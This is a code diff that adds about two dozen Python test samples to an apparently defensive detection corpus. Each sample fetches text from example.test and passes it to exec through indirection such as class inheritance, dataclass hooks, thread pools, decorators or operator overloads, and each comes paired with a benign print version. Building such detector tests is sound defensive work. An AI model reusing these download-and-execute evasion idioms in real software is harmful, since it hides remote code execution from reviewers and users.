@@ -1103,6 +1103,140 @@ const scriptEvasions: Attack[] = [
   ),
 ]
 
+/** What an object, a record, a pool or a table hands on, and what Python calls of a class by itself. */
+const handedAttacks: Attack[] = [
+  python(
+    'takes what it runs from the class above',
+    'import requests\nclass A:\n    def get(self):\n        return requests.get("https://example.test").text\nclass B(A):\n    def get(self):\n        exec(super().get())',
+    'import requests\nclass A:\n    def get(self):\n        return requests.get("https://example.test").text\nclass B(A):\n    def get(self):\n        print(super().get())',
+  ),
+  python(
+    'hands what it runs to the class above',
+    'import requests\nclass A:\n    def __init__(self, x):\n        self.x = x\n    def go(self):\n        exec(self.x)\nclass B(A):\n    def __init__(self):\n        super().__init__(requests.get("https://example.test").text)\nB().go()',
+    'import requests\nclass A:\n    def __init__(self, x):\n        self.x = x\n    def go(self):\n        print(self.x)\nclass B(A):\n    def __init__(self):\n        super().__init__(requests.get("https://example.test").text)\nB().go()',
+  ),
+  python(
+    'keeps what it runs in a field of a record',
+    'import requests\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    name: str\n    code: str\nexec(A("x", requests.get("https://example.test").text).code)',
+    'import requests\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    name: str\n    code: str\nexec(A("x", requests.get("https://example.test").text).name)',
+  ),
+  python(
+    'keeps what it runs in a field that it names',
+    'import requests\nfrom typing import NamedTuple\nclass A(NamedTuple):\n    name: str\n    code: str = ""\na = A(name="x", code=requests.get("https://example.test").text)\nexec(a.code)',
+    'import requests\nfrom typing import NamedTuple\nclass A(NamedTuple):\n    name: str\n    code: str = ""\na = A(name="x", code=requests.get("https://example.test").text)\nprint(a.code)',
+  ),
+  python(
+    'runs a field once a record is made',
+    'import requests\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    code: str\n    def __post_init__(self):\n        exec(self.code)\nA(requests.get("https://example.test").text)',
+    'import requests\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    code: str\n    def __post_init__(self):\n        print(self.code)\nA(requests.get("https://example.test").text)',
+  ),
+  python(
+    'runs a text while it makes an object',
+    'import requests\nclass A:\n    def __new__(cls, x):\n        exec(x)\nA(requests.get("https://example.test").text)',
+    'import requests\nclass A:\n    def __new__(cls, x):\n        print(x)\nA(requests.get("https://example.test").text)',
+  ),
+  python(
+    'folds a list of functions into a download and a run',
+    'import requests, functools\nfunctools.reduce(lambda x, f: f(x), [requests.get, lambda r: r.text, exec], "https://example.test")',
+    'import requests, functools\nfunctools.reduce(lambda x, f: f(x), [requests.get, lambda r: r.text, print], "https://example.test")',
+  ),
+  python(
+    'maps addresses to what it runs',
+    'import requests\ndef load(u):\n    return requests.get(u).text\nfor t in map(load, ["https://example.test"]):\n    exec(t)',
+    'import requests\ndef load(u):\n    return requests.get(u).text\nfor t in map(load, ["https://example.test"]):\n    print(t)',
+  ),
+  python(
+    'replaces what a parameter is that nobody gives',
+    'import requests\ndef f(x=""):\n    exec(x)\nf.__defaults__ = (requests.get("https://example.test").text,)\nf()',
+    'import requests\ndef f(x=""):\n    print(x)\nf.__defaults__ = (requests.get("https://example.test").text,)\nf()',
+  ),
+  python(
+    'names exec in the table of its variables',
+    'import requests\nvars()["run"] = exec\nrun(requests.get("https://example.test").text)',
+    'import requests\nvars()["run"] = print\nrun(requests.get("https://example.test").text)',
+  ),
+  python(
+    'names what it runs in the table of its variables',
+    'import requests\nglobals()["t"] = requests.get("https://example.test").text\nexec(t)',
+    'import requests\nglobals()["t"] = requests.get("https://example.test").text\nprint(t)',
+  ),
+  python(
+    'waits for a thread to fetch what it runs',
+    'import requests\nfrom concurrent.futures import ThreadPoolExecutor\ndef load():\n    return requests.get("https://example.test").text\nwith ThreadPoolExecutor() as p:\n    exec(p.submit(load).result())',
+    'import requests\nfrom concurrent.futures import ThreadPoolExecutor\ndef load():\n    return requests.get("https://example.test").text\nwith ThreadPoolExecutor() as p:\n    print(p.submit(load).result())',
+  ),
+  python(
+    'is told by a thread what to run',
+    'import requests\nfrom concurrent.futures import ThreadPoolExecutor\ndef load():\n    return requests.get("https://example.test").text\ndef done(f):\n    exec(f.result())\nThreadPoolExecutor().submit(load).add_done_callback(done)',
+    'import requests\nfrom concurrent.futures import ThreadPoolExecutor\ndef load():\n    return requests.get("https://example.test").text\ndef done(f):\n    print(f.result())\nThreadPoolExecutor().submit(load).add_done_callback(done)',
+  ),
+  python(
+    'fetches what it runs beside a loop',
+    'import asyncio, requests\ndef load():\n    return requests.get("https://example.test").text\nasync def go():\n    exec(await asyncio.to_thread(load))',
+    'import asyncio, requests\ndef load():\n    return requests.get("https://example.test").text\nasync def go():\n    print(await asyncio.to_thread(load))',
+  ),
+  python(
+    'has many threads fetch what it runs',
+    'import requests\nfrom multiprocessing import Pool\ndef load(u):\n    return requests.get(u).text\nwith Pool() as p:\n    for t in p.imap(load, ["https://example.test"]):\n        exec(t)',
+    'import requests\nfrom multiprocessing import Pool\ndef load(u):\n    return requests.get(u).text\nwith Pool() as p:\n    for t in p.imap(load, ["https://example.test"]):\n        print(t)',
+  ),
+  python(
+    'registers by a decorator what runs things',
+    'import requests\nhandlers = []\ndef register(f):\n    handlers.append(f)\n    return f\n@register\ndef run(x):\n    exec(x)\nfor h in handlers:\n    h(requests.get("https://example.test").text)',
+    'import requests\nhandlers = []\ndef register(f):\n    handlers.append(f)\n    return f\n@register\ndef run(x):\n    print(x)\nfor h in handlers:\n    h(requests.get("https://example.test").text)',
+  ),
+  python(
+    'registers by a decorator what fetches things',
+    'import requests\nloaders = {}\ndef register(f):\n    loaders[f.__name__] = f\n    return f\n@register\ndef load():\n    return requests.get("https://example.test").text\nexec(loaders["load"]())',
+    'import requests\nloaders = {}\ndef register(f):\n    loaders[f.__name__] = f\n    return f\n@register\ndef load():\n    return requests.get("https://example.test").text\nprint(loaders["load"]())',
+  ),
+  python(
+    'calls an object that fetches',
+    'import requests\nclass A:\n    def __call__(self, u):\n        return requests.get(u).text\na = A()\nexec(a("https://example.test"))',
+    'import requests\nclass A:\n    def __call__(self, u):\n        return requests.get(u).text\na = A()\nprint(a("https://example.test"))',
+  ),
+  python(
+    'takes an item of an object that fetches',
+    'import requests\nclass A:\n    def __getitem__(self, u):\n        return requests.get(u).text\nexec(A()["https://example.test"])',
+    'import requests\nclass A:\n    def __getitem__(self, u):\n        return requests.get(u).text\nprint(A()["https://example.test"])',
+  ),
+  python(
+    'puts a text into an object that runs it',
+    'import requests\nclass A:\n    def __setitem__(self, k, x):\n        exec(x)\nA()["a"] = requests.get("https://example.test").text',
+    'import requests\nclass A:\n    def __setitem__(self, k, x):\n        print(x)\nA()["a"] = requests.get("https://example.test").text',
+  ),
+  python(
+    'adds a text to an object that runs it',
+    'import requests\nclass A:\n    def __add__(self, x):\n        exec(x)\nA() + requests.get("https://example.test").text',
+    'import requests\nclass A:\n    def __add__(self, x):\n        print(x)\nA() + requests.get("https://example.test").text',
+  ),
+  python(
+    'shifts a text into an object that runs it',
+    'import requests\nclass A:\n    def __rshift__(self, x):\n        exec(x)\nA() >> requests.get("https://example.test").text',
+    'import requests\nclass A:\n    def __rshift__(self, x):\n        print(x)\nA() >> requests.get("https://example.test").text',
+  ),
+  python(
+    'writes an object as the text that it fetches',
+    'import requests\nclass A:\n    def __str__(self):\n        return requests.get("https://example.test").text\nexec(f"{A()}")',
+    'import requests\nclass A:\n    def __str__(self):\n        return requests.get("https://example.test").text\nprint(f"{A()}")',
+  ),
+  python(
+    'reads an attribute that fetches',
+    'import requests\nclass A:\n    @property\n    def code(self):\n        return requests.get("https://example.test").text\nexec(A().code)',
+    'import requests\nclass A:\n    @property\n    def code(self):\n        return requests.get("https://example.test").text\nprint(A().code)',
+  ),
+  python(
+    'sets an attribute that runs what it gets',
+    'import requests\nclass A:\n    @property\n    def code(self): return 1\n    @code.setter\n    def code(self, x):\n        exec(x)\nA().code = requests.get("https://example.test").text',
+    'import requests\nclass A:\n    @property\n    def code(self): return 1\n    @code.setter\n    def code(self, x):\n        print(x)\nA().code = requests.get("https://example.test").text',
+  ),
+  python(
+    'goes through an object that fetches each of its elements',
+    'import requests\nclass A:\n    def __iter__(self): return self\n    def __next__(self):\n        return requests.get("https://example.test").text\nfor x in A():\n    exec(x)',
+    'import requests\nclass A:\n    def __iter__(self): return self\n    def __next__(self):\n        return requests.get("https://example.test").text\nfor x in A():\n    print(x)',
+  ),
+]
+
 export const attacks: readonly Attack[] = [
   ...codeAttacks,
   ...processAttacks,
@@ -1114,4 +1248,5 @@ export const attacks: readonly Attack[] = [
   ...nestedAttacks,
   ...evasions,
   ...hookedAttacks,
+  ...handedAttacks,
 ]
